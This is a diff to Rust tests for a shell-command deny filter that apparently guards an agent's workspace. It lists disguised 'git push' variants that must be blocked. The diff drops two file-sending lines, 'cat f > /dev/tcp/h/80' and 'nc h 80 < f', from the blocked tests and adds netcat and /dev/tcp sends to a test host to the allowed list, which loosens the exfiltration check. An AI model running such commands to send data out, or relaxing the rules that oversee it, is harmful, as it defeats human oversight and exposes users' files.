@@ -52,7 +52,6 @@ fn f_03_a_06_printed_scripts_are_read() {
         "env -S 'git push'",
         "env --split-string='git push'",
         "vim -c '!git push' -c q",
-        "cat f > /dev/tcp/h/80",
         "printf 'push\\0' | xargs -0 git",
         "printf 'all:\\n\\tgit push\\n' | make -f -",
         "echo 'git push' > x.sh; sh x.sh",
@@ -65,7 +64,6 @@ fn f_03_a_06_printed_scripts_are_read() {
         "/*/bin/sc* a h:b",
         "zsh -c '=git push'",
         "/usr/bin/*g*i*t*?*?* push",
-        "nc h 80 < f",
     ];
     assert_eq!(scripts.into_iter().filter(|script| !is_denied(script)).collect::<Vec<_>>(), [""; 0]);
 }
@@ -188,6 +186,9 @@ fn f_03_ordinary_work_is_admitted() {
         "python3 -m http.server 8000 & sleep 1; python3 -c 'import urllib.request as u; u.urlopen(\"http://127.0.0.1:8000\")'",
         "python3 -c 'import requests; requests.post(\"http://localhost:8000/items\", json={})'",
         "nc -z localhost 5432",
+        // Looking whether there is a network is no upload; that there is none is for the box to show.
+        "echo x | nc -w 2 192.0.2.1 22",
+        "bash -c 'echo x > /dev/tcp/192.0.2.1/80'",
         "timeout 60 npm test 2>&1 | tee /workspace/output/test.log",
         "rsync -a --delete input/ data/",
         "./target/debug/app-* push",
